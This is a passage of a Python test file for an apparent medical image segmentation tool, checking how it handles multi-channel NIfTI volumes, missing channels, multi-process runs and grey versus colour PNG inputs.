    assert "1 segmented, 1 already there" in run(*files, folder / "b.nii.gz", model=model).stdout
    alone = run(files[0], model=model, out=tmp_path / "alone")
    assert alone.exit_code == 0 and (tmp_path / "alone" / "labels" / "a.nii.gz").is_file()


def test_a_missing_channel_fails_alone(run, channels, tmp_path):
    folder, model = channels
    (folder / "a_0001.nii.gz").unlink()
    write_volume(folder / "c_0000.nii.gz")
    write_volume(folder / "c_0001.nii.gz", 1, (14, 9, 11))
    result = run(folder, model=model)
    assert result.exit_code == 1 and "1 segmented, 0 already there, 2 failed" in result.stdout
    failed = [line for line in result.stderr.splitlines() if line.startswith("failed: ")]
    assert "a_0001 is missing" in failed[0] and "c_0001.nii.gz has the shape" in failed[1]


def test_files_that_are_numbered_like_channels_are_images_for_a_model_of_one(run, tmp_path):
    for i in range(2):
        write_volume(tmp_path / "scans" / f"a_000{i}.nii.gz", i)
    assert "2 segmented" in run(tmp_path / "scans").stdout
    assert (tmp_path / "out" / "labels" / "a_0001.nii.gz").is_file()


def test_channels_over_two_processes(channels, tmp_path):
    folder, model = channels
    out = tmp_path / "out"
    codes, output = ranks(2, *arguments_for([folder], out, model))
    assert codes == [0, 0], output
    assert {row["case"] for row in rows(out)} == {"a", "b"}


def test_pictures_in_grey_are_channels_and_in_colour_images(run, tiny_checkpoint, tmp_path):
    folder = tmp_path / "pictures"
    folder.mkdir()
    rng = np.random.default_rng(0)
    for name, shape in (("g", (18, 20)), ("c", (18, 20, 3))):
        for i in range(3):
            imsave(folder / f"{name}_000{i}.png", rng.integers(0, 255, shape).astype(np.uint8))
    model = save_checkpoint(tiny_checkpoint(2, channels=3), tmp_path / "rgb.safetensors")
    assert "4 segmented" in run(folder, model=model).stdout
    assert {row["case"] for row in rows(tmp_path / "out")} == {"g", "c_0000", "c_0001", "c_0002"}
